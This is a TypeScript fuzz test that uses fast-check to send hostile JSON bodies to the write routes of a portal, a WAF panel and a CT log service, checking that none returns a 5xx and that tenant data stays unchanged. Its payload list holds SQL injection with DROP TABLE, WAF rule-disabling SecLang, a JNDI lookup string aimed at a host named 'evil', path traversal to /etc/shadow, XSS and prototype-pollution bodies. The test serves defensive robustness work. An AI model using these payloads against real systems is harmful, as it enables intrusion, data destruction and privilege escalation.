/**
 * Hostile bodies on every route the OpenAPI document gives a request body, on all three
 * services: property-based (fast-check) objects whose keys are the route's own fields,
 * `__proto__`/`constructor`/unknown keys, and whose values are wrong types, huge strings and
 * arrays, deep nesting, unicode edge cases, NUL bytes, SQL and SecLang injection, invalid UUIDs
 * and dates; plus raw bodies that are not JSON at all. Every answer is a 4xx problem+json or,
 * for the rare valid draw, a 2xx; never a 5xx. Whatever was refused left the tenant's data as
 * it was: after each run its lists read the same as after the last accepted request.
 */
import 'reflect-metadata'; // before @peculiar/x509 (test-pki), whose DI container needs it
import fc from 'fast-check';
import { createRoot } from '../apps/ct-log/test/test-pki';
import { startCtLog } from '../apps/ct-log/test/ct-harness';
import { startPortal } from '../apps/portal/test/portal-harness';
import { startWafPanel } from '../apps/waf-panel/test/waf-harness';
import { describeBackends, type TestBackend } from './harness/backends';
import type { ServiceUnderTest } from './harness/http-service';
import { type ApiDocument, concretePaths, listRoutes, openApiDocument, type Operation, snapshot } from './harness/openapi-routes';

const TENANT = 'a3000000-0000-4000-8000-00000000000a';
const WHO = {
  tenant: TENANT,
  roles: ['Admin', 'Contributor', 'Reader', 'Editor', 'Viewer', 'WafNode', 'CtSubmitter', 'CtReader', 'CtAuditor'],
  sub: 'hostile-1',
};
const RUNS_PER_ROUTE = 12;

type Service = ServiceUnderTest<typeof WHO>;

const INJECTIONS = [
  "' OR '1'='1' --",
  "'); DROP TABLE portal.sources; --",
  '"; SecRule REQUEST_URI "@rx ." "id:1,phase:1,pass,ctl:ruleEngine=Off"',
  '\nSecRuleEngine Off\n',
  'Include /etc/passwd',
  '${jndi:ldap://evil/x}',
  '<script>alert(1)</script>',
  '../../../../etc/shadow',
  'a\u0000b',
  '\uD800',
  '\u202Egnp.exe',
  'Z\u0351\u0352\u0353'.repeat(50),
  '😀'.repeat(300),
  'x'.repeat(100_000),
  'not-a-uuid',
  '00000000-0000-0000-0000-000000000000',
  '2026-02-30T25:61:61Z',
  '-1e309',
  'NaN',
];
const PROTO_KEYS = ['__proto__', 'constructor', 'prototype'];

const scalar = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.string({ unit: 'binary', maxLength: 64 }),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constantFrom(-1, 0, 2 ** 53 + 1, -(2 ** 31)),
);
const value: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    scalar,
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.string({ maxLength: 8 }), tie('value'), { maxKeys: 4 }),
  ),
})).value;

/** JSON text written by hand, so `__proto__` travels as a literal key. */
function objectText(entries: Array<[string, unknown]>): string {
  return `{${entries.map(([key, item]) => `${JSON.stringify(key)}:${JSON.stringify(item) ?? 'null'}`).join(',')}}`;
}

function bodies(fields: string[]): fc.Arbitrary<string> {
  const key = fc.oneof(fc.constantFrom(...(fields.length ? fields : ['name'])), fc.constantFrom(...fields, ...PROTO_KEYS), fc.string({ maxLength: 12 }));
  return fc.oneof(
    { weight: 6, arbitrary: fc.array(fc.tuple(key, value), { maxLength: 8 }).map(objectText) },
    { weight: 1, arbitrary: value.map((item) => JSON.stringify(item) ?? 'null') },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(...(fields.length ? fields : ['name']))
        .map((name) => `{${JSON.stringify(name)}:{"__proto__":{"admin":true}},"constructor":{"prototype":{"admin":true}}}`),
    },
  );
}

/** Not JSON, or JSON no parser should be asked to hold. */
const RAW = [
  '',
  '{',
  '{"a":1,}',
  'null',
  '[]',
  '"string"',
  `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  `{"a":${'{"a":'.repeat(5_000)}1${'}'.repeat(5_001)}`,
  '\u0000',
  '{"a":"\uD800"}',
];

function fieldsOf(document: ApiDocument, operation: Operation): string[] {
  const ref = (operation.requestBody as { content?: Record<string, { schema?: { $ref?: string } }> } | undefined)?.content?.['application/json']?.schema?.$ref;
  const schema = ref ? document.components?.schemas?.[ref.split('/').pop()!] : undefined;
  return Object.keys(schema?.properties ?? {});
}

interface Tally {
  requests: number;
  refused: number;
  accepted: number;
}

async function assault(service: Service, known: Record<string, string> = {}): Promise<Tally> {
  const document = await openApiDocument(service);
  // Refusals are audited by design (spec), so audit trails are not part of "unchanged" (listRoutes leaves them out).
  const lists = listRoutes(Object.entries(document.paths).filter(([path]) => path.startsWith('/api/')));
  let baseline = await snapshot(service, WHO, lists);
  const tally: Tally = { requests: 0, refused: 0, accepted: 0 };
  const send = async (method: string, path: string, raw: string) => {
    const answer = await service.call(method, path, { who: WHO, raw, headers: { 'content-type': 'application/json', 'if-match': '*' } });
    tally.requests += 1;
    const request = `${method} ${path} ${raw.slice(0, 200)}`;
    expect({ request, status: answer.status < 500 ? 'below 500' : answer.status }).toEqual({ request, status: 'below 500' });
    if (answer.status >= 400) {
      tally.refused += 1;
      // The management APIs answer RFC 9457 problems; the RFC 6962 endpoints (/logs/…) their own JSON errors.
      const type = path.startsWith('/api/') ? 'application/problem+json' : 'application/json';
      expect({ request, type: answer.headers.get('content-type') }).toEqual({ request, type: expect.stringContaining(type) });
    } else {
      tally.accepted += 1;
      baseline = await snapshot(service, WHO, lists);
    }
  };
  for (const [template, operations] of Object.entries(document.paths)) {
    for (const [method, operation] of Object.entries(operations)) {
      // Every write, whether or not the document describes its body.
      if (!['post', 'put', 'patch'].includes(method)) continue;
      const paths = await concretePaths(service, WHO, template, operation, known);
      for (const path of paths.slice(0, 1)) {
        for (const raw of RAW) await send(method.toUpperCase(), path, raw);
        await fc.assert(
          fc.asyncProperty(bodies(fieldsOf(document, operation)), (raw) => send(method.toUpperCase(), path, raw)),
          { numRuns: RUNS_PER_ROUTE, endOnFailure: true },
        );
      }
    }
  }
  expect(await snapshot(service, WHO, lists)).toBe(baseline);
  return tally;
}

describeBackends('hostile request bodies on every route that takes one', (backend: TestBackend) => {
  const check = (tally: Tally) => {
    expect(tally.refused).toBeGreaterThan(tally.accepted);
    process.stdout.write(`${JSON.stringify({ backend: backend.kind, ...tally })}\n`);
  };

  it('portal', async () => {
    const portal = (await startPortal(backend, { DEMO_TENANT_IDS: TENANT })) as unknown as Service;
    try {
      check(await assault(portal));
    } finally {
      await portal.close();
    }
  }, 180_000);

  it('waf-panel', async () => {
    const waf = (await startWafPanel(backend)) as unknown as Service;
    try {
      const policy = await waf.call('POST', '/api/v1/policies', { who: WHO, body: { name: 'Hostile target', mode: 'blocking' } });
      expect(policy.status).toBe(201);
      await waf.call('POST', '/api/v1/vhosts', {
        who: WHO,
        body: { domain: 'hostile.example.com', backends: [{ url: 'http://app:8080/' }], policyId: policy.body.id },
      });
      check(await assault(waf));
    } finally {
      await waf.close();
    }
  }, 180_000);

  it('ct-log', async () => {
    const ct = (await startCtLog(backend)) as unknown as Service;
    try {
      const root = await createRoot('Hostile Root');
      expect(
        (await ct.call('POST', '/api/v1/admin/logs', { who: WHO, body: { name: 'hostile-log', kind: 'rfc6962', key: 'generate', roots: [root.b64] } })).status,
      ).toBe(201);
      check(await assault(ct, { log: 'hostile-log', name: 'hostile-log' }));
    } finally {
      await ct.close();
    }
  }, 180_000);
});
